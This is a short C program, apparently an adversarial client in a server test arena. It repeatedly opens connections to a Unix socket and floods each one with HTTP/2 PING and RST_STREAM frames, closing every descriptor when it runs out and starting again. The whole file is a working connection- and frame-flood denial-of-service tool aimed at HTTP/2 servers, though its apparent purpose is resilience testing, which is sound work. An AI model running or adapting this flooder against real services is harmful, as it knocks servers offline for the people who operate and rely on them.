/* Opens connection after connection to its door, and floods each with pings and resets of HTTP/2. Never joins. */
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
static const unsigned char settings[9] = {0, 0, 0, 4, 0, 0, 0, 0, 0};
static const unsigned char ping[17] = {0, 0, 8, 6, 0, 0, 0, 0, 0, 'k', 'n', 'o', 'c', 'k'};
static const unsigned char reset[13] = {0, 0, 4, 3, 0, 0, 0, 0, 1, 0, 0, 0, 8};

int main(void) {
    const char *address = getenv("ARENA_ADDRESS");
    struct sockaddr_un door = {.sun_family = AF_UNIX};
    if (!address || strncmp(address, "unix:", 5)) return 1;
    strncpy(door.sun_path, address + 5, sizeof door.sun_path - 1);
    signal(SIGPIPE, SIG_IGN);
    for (;;) {
        int line = socket(AF_UNIX, SOCK_STREAM, 0);
        if (line < 0) { /* it holds all the connections it may: let them go */
            for (int held = 3; held < 4096; held++) close(held);
            continue;
        }
        if (connect(line, (struct sockaddr *)&door, sizeof door)) {
            close(line);
            usleep(1000);
            continue;
        }
        write(line, preface, sizeof preface - 1);
        write(line, settings, sizeof settings);
        for (int n = 0; n < 200 && write(line, ping, sizeof ping) > 0; n++) write(line, reset, sizeof reset);
    }
}
